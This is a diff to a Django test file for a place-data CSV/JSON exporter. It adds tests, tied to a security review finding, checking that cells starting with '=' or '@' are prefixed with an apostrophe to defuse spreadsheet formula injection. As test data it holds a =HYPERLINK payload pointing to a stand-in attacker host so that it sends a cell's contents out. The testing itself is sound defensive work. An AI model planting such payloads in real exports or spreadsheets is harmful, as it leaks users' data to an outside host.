@@ -2,6 +2,7 @@
 (checked with frictionless, a Table Schema validator), and import → export → import
 changes nothing."""
 
+import csv
 import json
 from io import StringIO
 
@@ -121,3 +122,48 @@ def test_export_to_standard_output():
     out = StringIO()
     call_command("export-places", stdout=out)
     assert out.getvalue().splitlines() == [",".join(COLUMNS)]
+
+
+PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")'
+
+
+def _source(tmp_path, **values):
+    source = tmp_path / "source.csv"
+    row = {"id": "x1", "pivot": "21840080100019", "nom": "EPN", "commune": "Monteux",
+           "code_postal": "84170", "adresse": "Place du Marché", "date_maj": "2024-01-01",
+           "latitude": "44.0359", "longitude": "4.9972", "telephone": "+33490000000", **values}  # fmt: skip
+    with source.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(row))
+        writer.writeheader()
+        writer.writerow(row)
+    return source
+
+
+def test_csv_cells_that_would_be_formulas_get_an_apostrophe(tmp_path):
+    """Security review, finding 3: a name such as "=HYPERLINK(…)" is written "'=HYPERLINK(…)"
+    in CSV and import-places reads it back as it was; coordinates and phones stay as they
+    are; JSON, which no spreadsheet opens, keeps the value as it is."""
+    _import(_source(tmp_path, nom=PAYLOAD, adresse="@Place du Marché"))
+    first = _export(tmp_path, "first.csv")
+    row = next(csv.DictReader(first.open(encoding="utf-8")))
+    assert row["nom"] == "'" + PAYLOAD and row["adresse"] == "'@Place du Marché"
+    assert (row["latitude"], row["longitude"], row["telephone"]) == (
+        "44.0359", "4.9972", "+33490000000"
+    )  # fmt: skip
+    assert not [value for value in row.values() if value.startswith(("=", "@"))]
+    assert _schema_errors(first, "csv") == []
+    as_json = json.loads(_export(tmp_path, "places.json", "--format", "json").read_text("utf-8"))
+    assert as_json[0]["nom"] == PAYLOAD
+    # Imported back, the place is unchanged: export → import → export is a fixed point.
+    assert "0 created, 0 updated, 1 unchanged" in _import(first)
+    assert Place.objects.get().nom == PAYLOAD
+    assert first.read_text("utf-8") == _export(tmp_path, "second.csv").read_text("utf-8")
+
+
+def test_the_apostrophe_keeps_the_summary_within_the_schema_limit(tmp_path):
+    _import(_source(tmp_path, presentation_resume="- " + "x" * 278))  # 280 characters
+    resume = next(csv.DictReader(_export(tmp_path, "first.csv").open(encoding="utf-8")))[
+        "presentation_resume"
+    ]
+    assert resume == "'- " + "x" * 276 + "…"
+    assert _schema_errors(tmp_path / "first.csv", "csv") == []
